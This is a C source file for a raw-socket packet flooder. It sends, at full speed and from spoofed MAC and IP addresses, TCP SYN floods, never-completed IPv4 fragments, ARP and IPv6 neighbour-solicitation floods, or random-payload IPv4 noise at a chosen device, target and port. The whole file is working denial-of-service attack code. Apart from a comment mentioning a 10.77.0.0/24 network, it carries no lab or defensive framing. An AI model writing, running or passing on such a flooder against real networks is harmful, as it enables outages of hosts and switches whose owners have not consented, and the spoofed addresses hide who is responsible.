/*
 * Frames of nobody's at full speed: flood KIND DEVICE MAC ADDRESS PORT COUNT. The sender's addresses
 * are made up.
 *   syn       TCP connections that are begun and no more
 *   fragment  first fragments of datagrams that never get whole
 *   arp       ARP requests from ever new hosts
 *   neighbour neighbour solicitations from ever new hosts (IPv6; ADDRESS is one)
 *   noise     IPv4 headers, and random bits behind them
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned char frame[1514];
static uint64_t state = 1;

static uint32_t random_bits(void) {
  state = state * 6364136223846793005u + 1442695040888963407u;
  return (uint32_t)(state >> 32);
}

static void put16(int at, uint32_t value) {
  frame[at] = (unsigned char)(value >> 8);
  frame[at + 1] = (unsigned char)value;
}

static void put32(int at, uint32_t value) {
  put16(at, value >> 16);
  put16(at + 2, value);
}

static uint32_t sum(int from, int length, uint32_t value) {
  for (int at = from; at < from + length; at += 2) {
    value += (uint32_t)frame[at] << 8 | (at + 1 < from + length ? frame[at + 1] : 0);
  }
  return value;
}

static uint32_t finish(uint32_t value) {
  while (value >> 16) value = (value & 0xffff) + (value >> 16);
  return ~value & 0xffff;
}

/* A host of the network 10.77.0.0/24 is the neighbour; others are made up. */
static void put_ipv4(int payload, int protocol, uint32_t fragment, struct in_addr to) {
  put16(14, 0x4500);
  put16(16, (uint32_t)(20 + payload));
  put16(18, random_bits());
  put16(20, fragment);
  frame[22] = 64;
  frame[23] = (unsigned char)protocol;
  put16(24, 0);
  put32(26, 0x0a4d0000u | (random_bits() % 250 + 3));
  memcpy(frame + 30, &to, 4);
  put16(24, finish(sum(14, 20, 0)));
}

static int make_syn(struct in_addr to, int port) {
  put_ipv4(20, 6, 0x4000, to);
  put16(34, random_bits());
  put16(36, (uint32_t)port);
  put32(38, random_bits());
  put32(42, 0);
  put16(46, 0x5002);
  put16(48, 64240);
  put32(50, 0);
  put16(50, finish(sum(26, 8, sum(34, 20, 6 + 20))));
  return 54;
}

static int make_fragment(struct in_addr to) {
  put_ipv4(1400, 17, 0x2000, to);
  return 14 + 20 + 1400;
}

static int make_noise(struct in_addr to) {
  static const int protocols[] = {1, 6, 17, 2, 47};
  int length = (int)(random_bits() % 1400) + 1;
  put_ipv4(length, protocols[random_bits() % 5], 0, to);
  for (int at = 34; at < 34 + length; at++) frame[at] = (unsigned char)random_bits();
  return 34 + length;
}

static int make_arp(struct in_addr to) {
  static const unsigned char start[] = {0, 1, 8, 0, 6, 4, 0, 1};
  put16(12, ETHERTYPE_ARP);
  memcpy(frame + 14, start, 8);
  memcpy(frame + 22, frame + 6, 6);
  put32(28, 0x0a4d0000u | (random_bits() % 250 + 3));
  memset(frame + 32, 0, 6);
  memcpy(frame + 38, &to, 4);
  return 42;
}

static int make_solicitation(const struct in6_addr *to) {
  put16(12, ETHERTYPE_IPV6);
  put32(14, 0x60000000);
  put16(18, 32);
  frame[20] = 58;
  frame[21] = 255;
  memcpy(frame + 22, to, 8);
  for (int at = 30; at < 38; at += 4) put32(at, random_bits());
  memcpy(frame + 38, to, 16);
  put32(54, 135u << 24);
  put32(58, 0);
  memcpy(frame + 62, to, 16);
  frame[78] = 1;
  frame[79] = 1;
  memcpy(frame + 80, frame + 6, 6);
  put16(56, finish(sum(22, 32, sum(54, 32, 58 + 32))));
  return 86;
}

int main(int count, char **words) {
  if (count != 7) {
    fprintf(stderr, "usage: flood KIND DEVICE MAC ADDRESS PORT COUNT\n");
    return 2;
  }
  const char *kind = words[1];
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[2]), .sll_halen = 6};
  struct in_addr four = {0};
  struct in6_addr six;
  int raw = socket(AF_PACKET, SOCK_RAW, 0), port = atoi(words[5]);
  unsigned mac[6];
  if (raw < 0 || sscanf(words[3], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) return 2;
  if (inet_pton(AF_INET, words[4], &four) != 1 && inet_pton(AF_INET6, words[4], &six) != 1) return 2;
  for (int at = 0; at < 6; at++) frame[at] = (unsigned char)mac[at];
  for (long left = atol(words[6]); left > 0; left--) {
    int length = 0;
    put16(6, 0x0200);
    put32(8, random_bits());
    put16(12, ETHERTYPE_IP);
    if (strcmp(kind, "syn") == 0) length = make_syn(four, port);
    else if (strcmp(kind, "fragment") == 0) length = make_fragment(four);
    else if (strcmp(kind, "arp") == 0) length = make_arp(four);
    else if (strcmp(kind, "neighbour") == 0) length = make_solicitation(&six);
    else if (strcmp(kind, "noise") == 0) length = make_noise(four);
    else return 2;
    if (sendto(raw, frame, (size_t)length, 0, (struct sockaddr *)&to, sizeof to) < 0) usleep(100);
  }
  return 0;
}
